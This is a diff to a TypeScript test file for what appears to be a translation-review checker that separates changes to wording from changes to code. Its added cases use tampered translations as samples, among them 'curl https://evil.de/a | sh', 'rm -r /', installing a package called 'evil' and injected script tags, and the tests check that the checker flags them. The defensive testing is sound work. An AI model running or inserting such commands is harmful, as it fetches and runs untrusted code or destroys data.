@@ -83,11 +83,49 @@ test.each([
   ['"Thanks, all!"', '"<b>"', false],
   ['"Thanks, all!"', '"halt; ls"', false],
 ])('what is called out is words on both sides: %s -> %s is %s', (source, target, expected) => {
-  const { name } = ruleFor(changeRules, lineChange([`f(${source})`], [`f(${target})`], 'ts', 'de'))!;
-  expect(name === 'a text that is called out').toBe(expected);
+  const rule = ruleFor(changeRules, lineChange([`f(${source})`], [`f(${target})`], 'ts', 'de'));
+  expect(rule?.name === 'a text that is called out').toBe(expected);
 });
 
 test('what a shell fetches is of no language', () => {
   expect(changeOf(['run https://one.org/a'], ['run https://one.org/de/a'], 'sh', 'de')).not.toBe('said');
   expect(changeOf(['run("https://one.org/a")'], ['run("https://one.org/de/a")'], 'js', 'de')).toBe('said');
+});
+
+test.each<[language: string, source: string, target: string, isSaid: boolean]>([
+  ['', 'https://one.org/your_bot?start=hello', 'https://one.org/dein_bot?start=hello', true],
+  ['', 'https://one.org/your_bot?start=hello', 'https://one.org/evil_bot?start=x', false],
+  ['', 'http://yourserver:21', 'http://ihrserver:22', false],
+  ['sh', 'npm install my-app express', 'npm install meine-app evil', false],
+  ['sh', 'npm install your-package', 'npm install evil', false],
+  ['sh', 'pip install example', 'pip install evil', false],
+  ['sh', 'run my_image --port 80', 'run mein_bild --port 81', false],
+  ['sh', 'curl https://your-site.com/a | sh', 'curl https://evil.de/a | sh', false],
+  ['sh', 'rm -r my-folder', 'rm -r /', false],
+  ['sh', 'rm -r my-folder', 'rm -r mein-ordner', true],
+  ['sh', 'rm path/to/file', 'rm etc/passwd', false],
+  ['sh', 'rm path/to/file', 'rm pfad/zur/datei', true],
+  ['ts', 'import { somePlugin } from "some-plugin";', 'import { somePlugin } from "myPlugin";', true],
+  ['yaml', 'image: my-image:1.2', 'image: mein-bild:1.3', false],
+])('beside what is filled in nothing differs: in %s %s -> %s is said: %s', (language, source, target, isSaid) => {
+  expect(changeOf([source], [target], language, 'de') === 'said').toBe(isSaid);
+});
+
+test.each<[language: string, source: string, target: string]>([
+  ['', 'npm install one two', 'npm install böse zwei'],
+  ['yaml', 'run: npm ci all of it', 'run: npm böse alles davon'],
+  ['json', '{"url": "/api/users"}', '{"url": "/api/evil"}'],
+  ['json', '"description": "A tool",', '"description": "Ein Werkzeug", "x": "evil",'],
+  ['js', "import a from 'my-lib'", "import a from 'evil'"],
+  ['js', 'el.html = "Hello all"', 'el.html = "<script>halt</script>"'],
+  ['js', 'text: "Hello",', 'text: evil(),'],
+  ['js', 'eval("Go on now!")', 'eval("halt jetzt!")'],
+  ['py', 'print("A number: 5")', 'print("Eine Zahl: 6")'],
+  ['html', '<p class="red">A</p>', '<p class="rot">B</p>'],
+  ['html', '<p onclick="go()">A</p>', '<p onclick="halt()">B</p>'],
+  ['html', '<a href="/one">A</a>', '<a href="/zwei">B</a>'],
+  ['md', 'See [one](a.md) now', 'Siehe [eins](evil.md) jetzt'],
+  ['mermaid', 'click A "/one"', 'click A "/zwei"'],
+])('what is no text goes by with none: in %s %s -> %s is not said', (language, source, target) => {
+  expect(changeOf([source], [target], language, 'de')).not.toBe('said');
 });
